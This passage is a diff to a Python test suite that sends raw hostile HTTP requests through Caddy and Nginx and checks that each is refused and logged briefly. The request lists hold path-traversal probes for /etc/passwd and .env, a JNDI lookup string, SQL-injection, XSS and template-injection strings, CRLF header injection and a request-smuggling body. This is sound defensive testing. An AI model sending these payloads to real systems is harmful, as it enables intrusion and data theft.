@@ -1,8 +1,9 @@
-"""Hosts: hostile Host, X-Forwarded-*, path, cookie and body inputs, behind both proxies.
+"""Hosts: hostile Host, X-Forwarded-*, path, cookie and body inputs behind both proxies.
 
-Each is refused with 4xx or closed, sent on to the address over HTTPS, or means nothing any more because the proxy has
-said better. It leaves at most two lines in the application's log, below 1,000 characters and without a traceback. They
-are sent byte for byte: no client library would. Each comes from an address of its own.
+Each input gets a 4xx, a closed connection or a redirect to HTTPS, or the proxy replaces
+it. It leaves at most two lines in the application's log, below 1,000 characters and
+without a traceback. Inputs are sent as raw bytes, because no client library sends them.
+Each one has its own address.
 """
 
 import json
@@ -20,7 +21,8 @@ from tests.drill import both_interfaces, only_asgi, only_wsgi
 from tests.services import Caddy, Nginx, Proxy
 
 SHORT = 1000  # characters of a line
-MOST = 2  # lines of a request: why it was refused, and the access line
+MOST = 2  # lines of a request: the reason of a refusal, and the access log
+FORM = "application/x-www-form-urlencoded"
 ME = "/api/v1/users/me/"
 SITE = "https://shop.test/"
 CLOSED = 0  # without an answer
@@ -37,12 +39,12 @@ token.save()
 
 @dataclass
 class Hostile:
-    """Bytes, and the statuses that are right for them."""
+    """Bytes to send, and the expected statuses."""
 
     name: str
     raw: bytes
     statuses: tuple[int, ...] = REFUSED
-    plain: bool = False  # not over TLS
+    plain: bool = False  # without TLS
 
 
 @dataclass
@@ -54,15 +56,14 @@ class Answer:
 
 @both_interfaces
 def test_hostile_inputs_are_refused(project, env, start, report, tmp_path):
-    token = project.manage(
-        "shell", "--no-imports", "-c", ISSUE_TOKEN, env=env
-    ).stdout.strip()
+    issued = project.manage("shell", "--no-imports", "-c", ISSUE_TOKEN, env=env)
     instance = start(project, env)
     with (
         Caddy(tmp_path / "caddy", project.path, instance.port) as caddy,
         Nginx(tmp_path / "nginx", project.path, instance.port) as nginx,
     ):
-        report(drill(instance, [caddy, nginx], [*hostile_inputs(token)]))
+        inputs = [*hostile_inputs(issued.stdout.strip())]
+        report(drill(instance, [caddy, nginx], inputs))
 
 
 @only_wsgi
@@ -73,11 +74,10 @@ def test_any_host_is_noticed(project, env, start, break_promise, tmp_path):
         'ALLOWED_HOSTS = ["shop.test", "evil.test"]',
     )
     instance = start(broken, env)
+    problem = r"host evil\.test through Nginx: status 200"
     with (
         Nginx(tmp_path / "nginx", project.path, instance.port) as nginx,
-        pytest.raises(
-            AssertionError, match=r"host evil\.test through Nginx: status 200"
-        ),
+        pytest.raises(AssertionError, match=problem),
     ):
         drill(instance, [nginx], [*hosts()])
 
@@ -94,23 +94,21 @@ def test_addresses_that_clients_make_up_are_noticed(
     instance = start(project, env)
     with (
         Nginx(tmp_path / "nginx", broken.path, instance.port) as nginx,
-        pytest.raises(AssertionError, match=r"Nginx hands on .*6\.6\.6\.6"),
+        pytest.raises(AssertionError, match=r"Nginx passes on .*6\.6\.6\.6"),
     ):
         drill(instance, [nginx], [*forwarded()])
 
 
 @only_wsgi
-def test_types_that_nobody_can_read_are_noticed(
+def test_unreadable_content_types_are_noticed(
     project, env, start, break_promise, tmp_path
 ):
     broken = break_promise("deploy/caddy/Caddyfile", "error @unreadable 415", "")
     instance = start(project, env)
+    problem = "charset in an unknown encoding through Caddy: status 500"
     with (
         Caddy(tmp_path / "caddy", broken.path, instance.port) as caddy,
-        pytest.raises(
-            AssertionError,
-            match="charset in an unknown encoding through Caddy: status 500",
-        ),
+        pytest.raises(AssertionError, match=problem),
     ):
         drill(instance, [caddy], [*forms()])
 
@@ -145,47 +143,36 @@ def drill(instance, proxies: list[Proxy], inputs: list[Hostile]) -> str:
     problems += look_at(lines, names)
     assert not problems, "\n".join(problems)
     through = " and ".join(proxy.name for proxy in proxies)
-    longest = max(map(len, lines))
-    return f"{len(inputs)} inputs through {through}: refused or void; {MOST} lines each of {longest} characters at most"
+    most = f"{MOST} lines each of {max(map(len, lines))} characters at most"
+    return f"{len(inputs)} inputs through {through}: refused or void; {most}"
 
 
 def send_all(proxy: Proxy, network: str, inputs: list[Hostile]) -> list[str]:
-    """What is wrong with the answers of a proxy to all inputs."""
+    """Send all inputs to a proxy; return what is wrong with the answers."""
     problems = []
     for number, hostile in enumerate(inputs):
         answer = ask(proxy, hostile.raw, address(network, number), plain=hostile.plain)
+        name = f"{hostile.name} through {proxy.name}"
         location = answer.headers.get("location", "")
-        if answer.status not in hostile.statuses or not urljoin(
-            SITE, location
-        ).startswith(SITE):
-            problems.append(
-                f"{hostile.name} through {proxy.name}: status {answer.status} {location}".rstrip()
-            )
+        stays = urljoin(SITE, location).startswith(SITE)
+        if answer.status not in hostile.statuses or not stays:
+            problems.append(f"{name}: status {answer.status} {location}".rstrip())
         if answer.status == 200 and "evil" in answer.body:
-            problems.append(
-                f"{hostile.name} through {proxy.name}: a page that repeats it"
-            )
-    heard = json.loads(
-        ask(proxy, request("POST", "/drill/heard/", b"a=b", **FORGED)).body
-    )
-    heard = {name.lower(): value for name, value in heard.items()}
-    said = {
-        name: heard.get(name)
-        for name in ("host", "x-forwarded-for", "x-forwarded-host", "x-forwarded-proto")
-    }
-    if said != dict(
-        zip(said, ("shop.test", "127.0.0.1", "shop.test", "https"), strict=True)
-    ):
-        problems.append(f"{proxy.name} hands on {said}")
+            problems.append(f"{name}: a page that repeats it")
+    answer = ask(proxy, request("POST", "/drill/heard/", b"a=b", **FORGED))
+    heard = {name.lower(): value for name, value in json.loads(answer.body).items()}
+    said = {name: heard.get(name) for name in PROXY_HEADERS}
+    if said != PROXY_HEADERS:
+        problems.append(f"{proxy.name} passes on {said}")
     forged = {name.lower() for name in FORGED} & heard.keys()
     problems += [
-        f"{proxy.name} hands on {name}" for name in forged if "evil" in heard[name]
+        f"{proxy.name} passes on {name}" for name in forged if "evil" in heard[name]
     ]
     return problems
 
 
 def look_at(lines: list[str], names: dict[str, str]) -> Iterator[str]:
-    """What is wrong with the lines of the log; ``names`` has an input for each address."""
+    """Yield what is wrong with the log; ``names`` has the input of each address."""
     entries: list[dict[str, Any]] = []
     for line in lines:
         try:
@@ -205,19 +192,17 @@ def look_at(lines: list[str], names: dict[str, str]) -> Iterator[str]:
     for entry in entries:
         request_id = entry.get("request_id")
         name = names.get(addresses.get(request_id, ""), "")
-        if entry["length"] >= SHORT:
-            yield f"{name}: a line of {entry['length']} characters: {entry['message'][:200]}"
-        if (
-            "exc_info" in entry
-            or entry["level"] == "CRITICAL"
-            or entry.get("status", 0) >= 500
-        ):
+        length, message = entry["length"], entry["message"][:200]
+        if length >= SHORT:
+            yield f"{name}: a line of {length} characters: {message}"
+        is_error = entry["level"] == "CRITICAL" or entry.get("status", 0) >= 500
+        if is_error or "exc_info" in entry:
             yield f"{name}: an alarming line: {entry}"
         if request_id and counted[request_id] > MOST:
-            yield f"{name}: {counted[request_id]} lines, such as {entry['message'][:200]}"
+            yield f"{name}: {counted[request_id]} lines, such as {message}"
         if request_id and not re.fullmatch(r"[0-9a-f-]{32,36}", request_id):
             yield f"{name}: request id {request_id}"
-    # The server's own lines on what is no request.
+    # The server's own lines, for bytes that are not a request.
     if counted[None] > len(names):
         yield f"{counted[None]} lines without a request"
 
@@ -229,7 +214,7 @@ def address(network: str, number: int) -> str:
 def ask(
     proxy: Proxy, raw: bytes, source: str = "127.0.0.1", *, plain: bool = False
 ) -> Answer:
-    """The answer to bytes, from an address of loopback."""
+    """Send bytes from a loopback address; return the answer."""
     answer = b""
     with proxy.connect(plain=plain, source=source, timeout=10) as connection:
         try:
@@ -245,21 +230,26 @@ def ask(
     head, _, body = answer.partition(b"\r\n\r\n")
     first, *fields = head.decode("latin-1").split("\r\n")
     status = re.match(r"HTTP/1\.[01] (\d{3})", first)
-    headers = {
-        name.lower(): value.strip()
-        for name, _, value in (field.partition(":") for field in fields)
-    }
+    pairs = (field.partition(":") for field in fields)
+    headers = {name.lower(): value.strip() for name, _, value in pairs}
     return Answer(int(status[1]) if status else CLOSED, headers, body.decode("latin-1"))
 
 
 def is_whole(answer: bytes) -> bool:
-    """Tell whether the answer has come with as much of a body as it announces."""
+    """Tell whether the answer has arrived with its whole body."""
     head, end, body = answer.partition(b"\r\n\r\n")
     length = re.search(rb"(?im)^content-length: (\d+)", head)
     return bool(end) and len(body) >= (int(length[1]) if length else 0)
 
 
-# What a client says that only a proxy may say, or nobody.
+# What the proxies tell the application about these requests.
+PROXY_HEADERS = {
+    "host": "shop.test",
+    "x-forwarded-for": "127.0.0.1",
+    "x-forwarded-host": "shop.test",
+    "x-forwarded-proto": "https",
+}
+# Headers that only a proxy may set, or nobody.
 FORGED = {
     "X_Forwarded_For": "6.6.6.6, evil",
     "X_Forwarded_Host": "evil.test",
@@ -280,21 +270,19 @@ def request(
     host: str | bytes | None = "shop.test",
     **headers: str | bytes,
 ) -> bytes:
-    fields: list[tuple[str, str | bytes | None]] = [
-        ("Host", host),
-        (
-            "Content-Length",
-            str(len(body)) if body and "Transfer_Encoding" not in headers else None,
-        ),
-        *((name.replace("_", "-"), value) for name, value in headers.items()),
-    ]
+    fields: list[tuple[str, str | bytes]] = []
+    if host is not None:
+        fields.append(("Host", host))
+    if body and "Transfer_Encoding" not in headers:
+        fields.append(("Content-Length", str(len(body))))
+    fields += ((name.replace("_", "-"), value) for name, value in headers.items())
     lines = [to_bytes(method) + b" " + to_bytes(target) + b" HTTP/1.1"]
-    lines += [
-        to_bytes(name) + b": " + to_bytes(value)
-        for name, value in fields
-        if value is not None
-    ]
+    lines += [to_bytes(name) + b": " + to_bytes(value) for name, value in fields]
     return b"\r\n".join([*lines, b"", body])
+
+
+def log_in(**headers: str | bytes) -> bytes:
+    return request("POST", "/admin/login/", b"a=b", **headers)
 
 
 def to_bytes(text: str | bytes) -> bytes:
@@ -314,156 +302,73 @@ def hostile_inputs(token: str) -> Iterator[Hostile]:
 
 
 def hosts() -> Iterator[Hostile]:
+    names = """
+        evil.test shop.test.evil.test evil.test/shop.test evil.test#shop.test
+        evil.test?shop.test shop.test@evil.test shop.test,evil.test shop.test;evil.test
+        .shop.test .. * localhost 127.0.0.1 [::1] [::1 [shop.test] 2130706433 0x7f.1
+        169.254.169.254 xn--shp-sna.test shöp.test <script>alert(1)</script> {{7*7}}
+        ${jndi:ldap://evil.test/a}
+    """.split()
     for host in (
-        "evil.test",
-        "shop.test.evil.test",
-        "evil.test/shop.test",
-        "evil.test#shop.test",
-        "evil.test?shop.test",
-        "shop.test@evil.test",
-        "shop.test evil.test",
-        "shop.test,evil.test",
-        "shop.test;evil.test",
-        "shop.test\tevil.test",
-        ".shop.test",
-        "..",
-        "*",
-        "",
-        "localhost",
-        "127.0.0.1",
-        "[::1]",
-        "[::1",
-        "[shop.test]",
-        "2130706433",
-        "0x7f.1",
-        "169.254.169.254",
-        "xn--shp-sna.test",
-        "shöp.test",
-        "<script>alert(1)</script>",
-        "'; DROP TABLE users_user; --",
-        "{{7*7}}",
-        "${jndi:ldap://evil.test/a}",
-        "a" * 300,
-        "a." * 2000,
-        b"\xff\xfe",
-        b"shop.test\x01",
+        *names,
+        *("", "shop.test evil.test", "shop.test\tevil.test"),
+        *("'; DROP TABLE users_user; --", "a" * 300, "a." * 2000),
+        *(b"\xff\xfe", b"shop.test\x01"),
     ):
         yield Hostile(f"host {host[:40]!s}", request("GET", "/", host=host))
-    # nginx hands on the name alone.
+    # nginx passes on the name only.
     for host in ("shop.test:80@evil.test", "shop.test:port", "shop.test:-1"):
         yield Hostile(f"host {host}", request("GET", "/", host=host), (*REFUSED, 200))
     yield Hostile("no host", request("GET", "/", host=None))
     yield Hostile("two hosts", request("GET", "/", Host="evil.test"))
-    yield Hostile(
-        "host in the target",
-        request("GET", "http://evil.test/nowhere/", host="evil.test"),
-    )
+    absolute = request("GET", "http://evil.test/nowhere/", host="evil.test")
+    yield Hostile("host in the target", absolute)
 
 
 def forwarded() -> Iterator[Hostile]:
+    addresses = """
+        evil , ,,,,, 999.999.999.999 1.2.3.4:80 [2001:db8::1] 2001:db8::1%eth0
+        ::ffff:1.2.3.4 unknown _hidden <script> 6.6.6.6
+    """.split()
     for client in (
-        "evil",
-        "",
-        ",",
-        ",,,,,",
-        "1.2.3.4, evil",
-        "evil, 1.2.3.4",
-        "999.999.999.999",
-        "1.2.3.4:80",
-        "[2001:db8::1]",
-        "2001:db8::1%eth0",
-        "::ffff:1.2.3.4",
-        "unknown",
-        "_hidden",
-        "' OR 1=1 --",
-        "<script>",
+        *addresses,
+        *("", "1.2.3.4, evil", "evil, 1.2.3.4", "' OR 1=1 --", "1.2.3.4," * 800),
         b"\xff\xfe",
-        "6.6.6.6",
-        "1.2.3.4," * 800,
     ):
         yield Hostile(f"client {client[:40]!s}", request(X_Forwarded_For=client))
         form = b"username=root&password=guess"
-        types = {"Content_Type": "application/x-www-form-urlencoded"}
-        yield Hostile(
-            f"log-in by {client[:40]!s}",
-            request("POST", "/admin/login/", form, X_Forwarded_For=client, **types),
-        )
-    for proto in (
-        "http",
-        "HTTPS",
-        "http,https",
-        "ftp",
-        "javascript:",
-        "",
-        "a" * 2000,
-        b"\xff",
-    ):
-        yield Hostile(
-            f"proto {proto[:40]!s}",
-            request("GET", "/", X_Forwarded_Proto=proto),
-            (200,),
-        )
-    yield Hostile(
-        "proto without TLS", request(X_Forwarded_Proto="https"), SENT_ON, plain=True
-    )
+        headers = {"X_Forwarded_For": client, "Content_Type": FORM}
+        raw = request("POST", "/admin/login/", form, **headers)
+        yield Hostile(f"log-in by {client[:40]!s}", raw)
+    protos = "http HTTPS http,https ftp javascript:".split()
+    for proto in (*protos, "", "a" * 2000, b"\xff"):
+        raw = request("GET", "/", X_Forwarded_Proto=proto)
+        yield Hostile(f"proto {proto[:40]!s}", raw, (200,))
     yield Hostile("forwarded host", request(X_Forwarded_Host="evil.test"))
-    yield Hostile(
-        "forwarded host, redirect",
-        request(X_Forwarded_Host="evil.test"),
-        SENT_ON,
-        plain=True,
-    )
-    yield Hostile(
-        "forwarded port", request(X_Forwarded_Port="evil"), SENT_ON, plain=True
-    )
-    yield Hostile(
-        "Forwarded",
-        request(Forwarded='for="[::1";host=evil.test;proto=https'),
-        SENT_ON,
-        plain=True,
-    )
-    yield Hostile(
-        "original url", request(X_Original_URL="/admin/", X_Rewrite_URL="/admin/")
-    )
+    for name, raw in {
+        "proto without TLS": request(X_Forwarded_Proto="https"),
+        "forwarded host, redirect": request(X_Forwarded_Host="evil.test"),
+        "forwarded port": request(X_Forwarded_Port="evil"),
+        "Forwarded": request(Forwarded='for="[::1";host=evil.test;proto=https'),
+    }.items():
+        yield Hostile(name, raw, SENT_ON, plain=True)
+    original = request(X_Original_URL="/admin/", X_Rewrite_URL="/admin/")
+    yield Hostile("original url", original)
 
 
 def paths() -> Iterator[Hostile]:
+    strange = """
+        /%00 /%0a{%22level%22:%22CRITICAL%22} /%0d%0aSet-Cookie:%20a=b /%e2%80%a8%c2%85
+        /%ff%fe /%c0%ae%c0%ae/ /%zz /% /.. /../../etc/passwd /static/../manage.py
+        /static/..%2f..%2fmanage.py /static/%2e%2e/%2e%2e/etc/passwd /static/%00.css
+        /static//etc/passwd /.env /.git/config /wp-login.php //evil.test/ //evil.test
+        /%2f%2fevil.test/ /\\evil.test /nowhere/?q=%00 /nowhere/;jsessionid=1
+        /<script>alert(1)</script> /{{7*7}} /'%20OR%201=1-- nowhere * ?
+    """.split()
     for path in (
-        "/%00",
-        "/%0a{%22level%22:%22CRITICAL%22}",
-        "/%0d%0aSet-Cookie:%20a=b",
-        "/%e2%80%a8%c2%85",
-        "/%ff%fe",
-        "/%c0%ae%c0%ae/",
-        "/%zz",
-        "/%",
-        "/..",
-        "/../../etc/passwd",
-        "/static/../manage.py",
-        "/static/..%2f..%2fmanage.py",
-        "/static/%2e%2e/%2e%2e/etc/passwd",
-        "/static/%00.css",
-        "/static//etc/passwd",
-        "/.env",
-        "/.git/config",
-        "/wp-login.php",
-        "//evil.test/",
-        "//evil.test",
-        "/%2f%2fevil.test/",
-        "/\\evil.test",
-        "/nowhere/?q=%00",
-        "/nowhere/;jsessionid=1",
-        "/<script>alert(1)</script>",
-        "/{{7*7}}",
-        "/'%20OR%201=1--",
-        "/" + "%01" * 1000,
-        "/" + "%22" * 1000,
-        "/" + "%5c" * 1000,
-        "/" + "é" * 300,
-        "/" + "/" * 3000,
-        "nowhere",
-        "*",
-        "?",
+        *strange,
+        *("/" + "%01" * 1000, "/" + "%22" * 1000, "/" + "%5c" * 1000),
+        *("/" + "é" * 300, "/" + "/" * 3000),
     ):
         yield Hostile(f"path {path[:40]}", request("GET", path))
     yield Hostile("long path", request("GET", "/" + "a" * 3500))
@@ -474,41 +379,35 @@ def paths() -> Iterator[Hostile]:
     yield Hostile("null byte in the path", request("GET", b"/a\x00b"))
     yield Hostile("space in the path", request("GET", "/a b c"))
     yield Hostile("line feed in the path", request("GET", b"/a\nb"))
-    for path in (
-        "//evil.test/",
-        "/%0d%0aLocation:%20https://evil.test/",
-        "/%5cevil.test",
-        "/@evil.test",
-    ):
+    redirected = """
+        //evil.test/ /%0d%0aLocation:%20https://evil.test/ /%5cevil.test /@evil.test
+    """.split()
+    for path in redirected:
         yield Hostile(f"redirect of {path}", request("GET", path), SENT_ON, plain=True)
-    yield Hostile(
-        "slash appended", request("GET", "/api/docs?next=//evil.test"), SENT_ON
-    )
+    appended = request("GET", "/api/docs?next=//evil.test")
+    yield Hostile("slash appended", appended, SENT_ON)
 
 
 def cookies() -> Iterator[Hostile]:
     for cookie in (
         "__Host-sessionid=" + "a" * 32,
         "__Host-sessionid=" + "a" * 3000,
-        '__Host-sessionid="\\000\\000\\000\\000\\000\\000\\000\\000"',
+        '__Host-sessionid="' + "\\000" * 8 + '"',
         '__Host-sessionid="aaaaaaaa\\012aaaaaaaa"',
         "__Host-sessionid=../../../../etc/passwd",
         "__Host-sessionid='; DROP TABLE django_session; --",
-        b"__Host-sessionid=\xff\xfe\xff\xfe\xff\xfe\xff\xfe",
+        b"__Host-sessionid=" + b"\xff\xfe" * 4,
         "__Host-sessionid=" + "é" * 40,
         "__Host-csrftoken=" + "a" * 32,
         "=",
         ";;;;",
         "a" * 4000,
         "a=b; " * 800,
-        '__Host-csrftoken="\\000"; __Host-sessionid="\\377\\377\\377\\377\\377\\377\\377\\377"',
+        '__Host-csrftoken="\\000"; __Host-sessionid="' + "\\377" * 8 + '"',
         "messages=W1siX19qc29uX21lc3NhZ2UiXV0; __Secure-language=../../../etc",
     ):
         yield Hostile(f"cookie {cookie[:60]!s}", request("GET", ME, Cookie=cookie))
-        yield Hostile(
-            f"log-in with {cookie[:60]!s}",
-            request("POST", "/admin/login/", b"a=b", Cookie=cookie),
-        )
+        yield Hostile(f"log-in with {cookie[:60]!s}", log_in(Cookie=cookie))
 
 
 def headers() -> Iterator[Hostile]:
@@ -523,147 +422,73 @@ def headers() -> Iterator[Hostile]:
     yield Hostile("request id", request(X_Request_ID=b"a b\x7f\xff"))
     yield Hostile("long request id", request(X_Request_ID="a" * 128))
     yield Hostile("longer request id", request(X_Request_ID="a" * 5000))
-    yield Hostile(
-        "user agent", request(User_Agent='"}\\n{"level": "CRITICAL"} \\u0000')
-    )
+    agent = '"}\\n{"level": "CRITICAL"} \\u0000'
+    yield Hostile("user agent", request(User_Agent=agent))
     yield Hostile("long user agent", request(User_Agent='"' * 4000))
     yield Hostile("user agent of bytes", request(User_Agent=b"\xff" * 500))
-    yield Hostile(
-        "referer", request("POST", "/admin/login/", b"a=b", Referer="https://[evil")
-    )
-    yield Hostile(
-        "origin", request("POST", "/admin/login/", b"a=b", Origin="https://[evil")
-    )
-    yield Hostile(
-        "long origin",
-        request("POST", "/admin/login/", b"a=b", Origin="https://" + "a" * 4000),
-    )
+    yield Hostile("referer", log_in(Referer="https://[evil"))
+    yield Hostile("origin", log_in(Origin="https://[evil"))
+    yield Hostile("long origin", log_in(Origin="https://" + "a" * 4000))
     yield Hostile("API origin", request("GET", ME, Origin="https://[evil"))
     yield Hostile("range", request(Range="bytes=9999999999999999999999-0"))
-    yield Hostile(
-        "date",
-        request(
-            If_Modified_Since="Fri, 99 Xxx 99999 99:99:99 GMT", If_None_Match='W/"'
-        ),
-    )
+    date = "Fri, 99 Xxx 99999 99:99:99 GMT"
+    yield Hostile("date", request(If_Modified_Since=date, If_None_Match='W/"'))
     yield Hostile("language", request(Accept_Language="a" * 3000))
     yield Hostile("accept", request("GET", ME, Accept="\x0b;q=evil"))
-    yield Hostile(
-        "authorization", request("GET", ME, Authorization="Bearer " + "a" * 3000)
-    )
-    yield Hostile(
-        "authorization of bytes", request("GET", ME, Authorization=b"Bearer \xff\xfe")
-    )
-    yield Hostile(
-        "authorization without a token", request("GET", ME, Authorization="Bearer")
-    )
-    yield Hostile("basic authorization", request("GET", ME, Authorization="Basic !!!"))
-    yield Hostile(
-        "upgrade",
-        request(Connection="Upgrade", Upgrade="websocket", Sec_WebSocket_Key="a"),
-    )
-    yield Hostile(
-        "HTTP/2 upgrade",
-        request(
-            Connection="Upgrade, HTTP2-Settings", Upgrade="h2c", HTTP2_Settings="a"
-        ),
-    )
+    for name, value in {
+        "authorization": "Bearer " + "a" * 3000,
+        "authorization of bytes": b"Bearer \xff\xfe",
+        "authorization without a token": "Bearer",
+        "basic authorization": "Basic !!!",
+    }.items():
+        yield Hostile(name, request("GET", ME, Authorization=value))
+    websocket = {"Upgrade": "websocket", "Sec_WebSocket_Key": "a"}
+    yield Hostile("upgrade", request(Connection="Upgrade", **websocket))
+    h2c = {"Upgrade": "h2c", "HTTP2_Settings": "a"}
+    upgrade = request(Connection="Upgrade, HTTP2-Settings", **h2c)
+    yield Hostile("HTTP/2 upgrade", upgrade)
 
 
 def methods() -> Iterator[Hostile]:
-    yield Hostile(
-        "method get", request("get", "/"), (*REFUSED, 200)
-    )  # which h11 takes for GET
-    for method in (
-        "FOO",
-        "PROPFIND",
-        "TRACE",
-        "CONNECT",
-        "A" * 300,
-        "G\0ET",
-        "GET\t",
-        "<script>",
-        "É",
-    ):
+    # h11 reads "get" as GET.
+    yield Hostile("method get", request("get", "/"), (*REFUSED, 200))
+    names = "FOO PROPFIND TRACE CONNECT <script> É".split()
+    for method in (*names, "A" * 300, "G\0ET", "GET\t"):
         yield Hostile(f"method {method[:40]}", request(method, "/"))
-    yield Hostile(
-        "override",
-        request("POST", "/", b"_method=DELETE", X_HTTP_Method_Override="DELETE"),
-    )
-    for version in (
-        b"HTTP/9.9",
-        b"HTTP/1.1.1",
-        b"HTTP/2.0",
-        b"HTTPS/1.1",
-        b"evil",
-        b"",
-    ):
-        yield Hostile(
-            f"version {version.decode()}",
-            request().replace(b"HTTP/1.1", version, 1),
-            (*REFUSED, 505),
-        )
+    override = {"X_HTTP_Method_Override": "DELETE"}
+    yield Hostile("override", request("POST", "/", b"_method=DELETE", **override))
+    for version in (*b"HTTP/9.9 HTTP/1.1.1 HTTP/2.0 HTTPS/1.1 evil".split(), b""):
+        raw = request().replace(b"HTTP/1.1", version, 1)
+        yield Hostile(f"version {version.decode()}", raw, (*REFUSED, 505))
     yield Hostile("nothing but lines", b"\r\n" * 50 + b"evil\r\n\r\n")
-    yield Hostile(
-        "TLS",
-        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64 + b"\r\n\r\n",
-    )
+    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
+    yield Hostile("TLS", hello + b"\x00" * 64 + b"\r\n\r\n")
     yield Hostile("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
     yield Hostile("PROXY protocol", b"PROXY TCP4 6.6.6.6 6.6.6.6 1 1\r\n" + request())
 
 
 def framing() -> Iterator[Hostile]:
-    for length in (
-        "evil",
-        "-1",
-        "+5",
-        "5 5",
-        "5, 6",
-        "0x5",
-        "5.0",
-        "\N{ARABIC-INDIC DIGIT FIVE}",
-        "1" * 40,
-        "1e3",
-    ):
-        yield Hostile(
-            f"length {length}", request("POST", "/drill/upload/", Content_Length=length)
-        )
-    yield Hostile(
-        "two lengths", request("POST", "/drill/upload/", b"hello", Content_Length="6")
-    )
+    target = "/drill/upload/"
+    lengths = "evil -1 +5 0x5 5.0 \N{ARABIC-INDIC DIGIT FIVE} 1e3".split()
+    for length in (*lengths, "5 5", "5, 6", "1" * 40):
+        raw = request("POST", target, Content_Length=length)
+        yield Hostile(f"length {length}", raw)
+    yield Hostile("two lengths", request("POST", target, b"hello", Content_Length="6"))
     for encoding in (
-        "evil",
-        "chunked, chunked",
-        "chunked, evil",
-        "xchunked",
-        "\x0bchunked",
-        "chunked;q=1",
-        "identity, chunked, identity",
+        *("evil", "chunked, chunked", "chunked, evil", "xchunked", "\x0bchunked"),
+        *("chunked;q=1", "identity, chunked, identity"),
     ):
-        raw = request(
-            "POST", "/drill/upload/", b"0\r\n\r\n", Transfer_Encoding=encoding
-        )
-        # 501 is what RFC 9112 (section 6.1) wants of whoever does not know an encoding.
+        raw = request("POST", target, b"0\r\n\r\n", Transfer_Encoding=encoding)
+        # RFC 9112 (section 6.1) wants 501 for an unknown encoding.
         yield Hostile(f"encoding {encoding}", raw, (*REFUSED, 501))
-    yield Hostile(
-        "length and encoding",
-        request(
-            "POST",
-            "/drill/upload/",
-            b"0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
-            Transfer_Encoding="chunked",
-            Content_Length="5",
-        ),
-    )
+    smuggled = b"0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n"
+    both = {"Transfer_Encoding": "chunked", "Content_Length": "5"}
+    yield Hostile("length and encoding", request("POST", target, smuggled, **both))
     for chunk in (
-        b"evil\r\n",
-        b"-5\r\nhello\r\n",
-        b"0x5\r\nhello\r\n",
-        b"5\nhello\n0\n\n",
-        b"fffffffffffffffff\r\n",
-        b"5\r\nhelloevil\r\n",
+        *(b"evil\r\n", b"-5\r\nhello\r\n", b"0x5\r\nhello\r\n"),
+        *(b"5\nhello\n0\n\n", b"fffffffffffffffff\r\n", b"5\r\nhelloevil\r\n"),
     ):
-        raw = request("POST", "/drill/upload/", chunk, Transfer_Encoding="chunked")
+        raw = request("POST", target, chunk, Transfer_Encoding="chunked")
         yield Hostile(f"chunk {chunk!r}", raw)
 
 
@@ -671,139 +496,61 @@ def forms() -> Iterator[Hostile]:
     def upload(content_type: str | bytes, body: bytes) -> bytes:
         return request("POST", "/drill/upload/", body, Content_Type=content_type)
 
-    part = b'--b\r\nContent-Disposition: form-data; name="image"; filename="%s"\r\nContent-Type: image/png\r\n\r\n%s\r\n--b--\r\n'
-    multipart = "multipart/form-data; boundary=b"
-    yield Hostile(
-        "multipart without a boundary",
-        upload("multipart/form-data", part % (b"a.png", b"a")),
-    )
-    yield Hostile(
-        "empty boundary",
-        upload("multipart/form-data; boundary=", part % (b"a.png", b"a")),
-    )
-    yield Hostile(
-        "long boundary",
-        upload("multipart/form-data; boundary=" + "b" * 1000, part % (b"a.png", b"a")),
-    )
-    yield Hostile(
-        "boundary of bytes",
-        upload(b"multipart/form-data; boundary=\xff", part % (b"a.png", b"a")),
-    )
-    yield Hostile(
-        "wrong boundary",
-        upload("multipart/form-data; boundary=c", part % (b"a.png", b"a")),
-    )
-    yield Hostile("end is missing", upload(multipart, (part % (b"a.png", b"a"))[:-10]))
-    yield Hostile("nothing but a boundary", upload(multipart, b"--b"))
-    yield Hostile("empty multipart", upload(multipart, b"\r\n"))
-    yield Hostile("null bytes", upload(multipart, b"\0" * 5000))
-    for name in (
-        b"../../etc/passwd",
-        b"a\0.png",
-        b"\xff\xfe.png",
-        b"a" * 5000 + b".png",
-        b".",
-        b"",
-        b"a.png\\",
-        b"con.png",
+    multipart = "multipart/form-data; boundary="
+    disposition = b'--b\r\nContent-Disposition: form-data; name="image"; '
+    body = b"Content-Type: image/png\r\n\r\n%s\r\n--b--\r\n"
+    part = disposition + b'filename="%s"\r\n' + body
+    encoded = disposition + b"filename*=evil''%%ff%s\r\n" + body
+    file = part % (b"a.png", b"a")
+    base64 = b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+    not_base64 = (part % (b"a.png", b"a*b")).replace(b"\r\n\r\n", base64, 1)
+    nested = file.replace(b"image/png", b"multipart/mixed; boundary=b")
+    of_charset = file.replace(b"image/png", b"image/png; charset=evil")
+    for name, content_type, body in (
+        ("multipart without a boundary", "multipart/form-data", file),
+        ("empty boundary", multipart, file),
+        ("long boundary", multipart + "b" * 1000, file),
+        ("boundary of bytes", b"multipart/form-data; boundary=\xff", file),
+        ("wrong boundary", f"{multipart}c", file),
+        ("end is missing", f"{multipart}b", file[:-10]),
+        ("nothing but a boundary", f"{multipart}b", b"--b"),
+        ("empty multipart", f"{multipart}b", b"\r\n"),
+        ("null bytes", f"{multipart}b", b"\0" * 5000),
+        ("file name in an unknown encoding", f"{multipart}b", encoded % (b"", b"a")),
+        ("bad base64", f"{multipart}b", not_base64),
+        ("unknown charset", f"{multipart}b; charset=evil", file),
+        ("charset of a part", f"{multipart}b", of_charset),
+        ("charset in an unknown encoding", "text/plain; charset*=evil''%ff", b"a"),
+        ("multipart in multipart", f"{multipart}b", nested),
+        ("too many fields", FORM, b"a=b&" * 1100),
+        ("too many files", f"{multipart}b", file[:-7] * 25 + b"--b--\r\n"),
+        ("too large a form", FORM, b"a=" + b"b" * (3 * 1024 * 1024)),
+        ("form in an unknown charset", f"{FORM}; charset=evil", b"a=%ff"),
+        ("form in UTF-16", f"{FORM}; charset=utf-16", b"a=%ff"),
+        ("form of bytes", FORM, b"\xff\xfe\0=\0&%zz=%"),
+        ("content type", ";;;=;", b"a"),
     ):
-        yield Hostile(
-            f"file name {name[:20]!r}",
-            upload(multipart, part % (name, b"\x89PNG evil")),
-        )
-    yield Hostile(
-        "file name in an unknown encoding",
-        upload(
